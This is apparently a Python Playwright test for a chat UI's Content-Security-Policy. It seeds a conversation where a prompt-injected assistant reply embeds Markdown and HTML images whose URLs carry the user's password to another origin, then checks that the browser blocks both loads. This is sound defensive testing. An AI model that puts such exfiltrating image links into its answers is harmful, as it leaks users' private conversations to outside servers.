"""The UI's Content-Security-Policy in a real browser: a prompt-injected answer that shows a
remote image (Markdown or raw HTML, both kept by the sanitiser) cannot send the conversation to
another server; the browser blocks the load before a byte leaves. The other server is a page
of this machine (loopback only), recording what reaches it."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from playwright.sync_api import Page, expect

from bench.lib.server_process import ServerProcess
from tests.eventually import eventually
from tests.frontend.ui import TIMEOUT_MS, ChatPage

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


class Recorder(BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(PIXEL)))
        self.end_headers()
        self.wfile.write(PIXEL)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def outside() -> Iterator[tuple[str, list[str]]]:
    """Another origin (another port of 127.0.0.1) and the paths requested from it."""
    hits: list[str] = []
    handler = type("Recording", (Recorder,), {"hits": hits})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", hits
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(scope="module")
def server() -> Iterator[ServerProcess]:
    with ServerProcess("-np", "1", "-c", "1024", "--doc-prefill-tokens", "0") as srv:
        yield srv


BLOCKED = """
window.__blocked = [];
document.addEventListener("securitypolicyviolation", (e) => window.__blocked.push(e.blockedURI));
"""


def test_an_injected_remote_image_sends_nothing_away(
    page: Page, server: ServerProcess, outside: tuple[str, list[str]], shot
):
    url, hits = outside
    injected = (
        f"Noted. ![status]({url}/md.png?q=the+password+is+plum)\n\n"
        f'<img src="{url}/html.png?q=plum" alt="x">\n\n'
        "Euler: $e^{i\\pi}+1=0$\n\n```python\nprint('hi')\n```"
    )
    body = {
        "title": "injected",
        "messages": [
            {"role": "user", "content": "The password is plum."},
            {"role": "assistant", "content": injected},
        ],
    }
    r = httpx.post(server.base_url + "/v1/sessions", json=body, timeout=30)
    assert r.status_code == 201, r.text
    page.add_init_script(BLOCKED)
    ChatPage(page, server.base_url).open(r.json()["id"])
    reply = page.locator("article.message.assistant")
    expect(reply).to_contain_text("Noted.", timeout=TIMEOUT_MS)
    expect(reply.locator("img")).to_have_count(2)  # the sanitiser keeps them: CSP is the guard
    # The page's own work goes on under the policy: math (inline styles, fonts) and code.
    expect(reply.locator(".katex")).to_be_visible()
    expect(reply.locator("code.hljs")).to_contain_text("print")

    def settled() -> tuple[list[str], list[str]] | None:
        """Both loads were blocked, or one reached the other server (the leak)."""
        blocked = page.evaluate("window.__blocked")
        return (blocked, list(hits)) if hits or len(blocked) >= 2 else None

    blocked, reached = eventually(settled, "both remote images to be blocked or loaded", 60)
    shot("csp-remote-image-blocked")
    assert reached == [], reached
    assert len(blocked) == 2 and all(u.startswith(url) for u in blocked), blocked  # only those
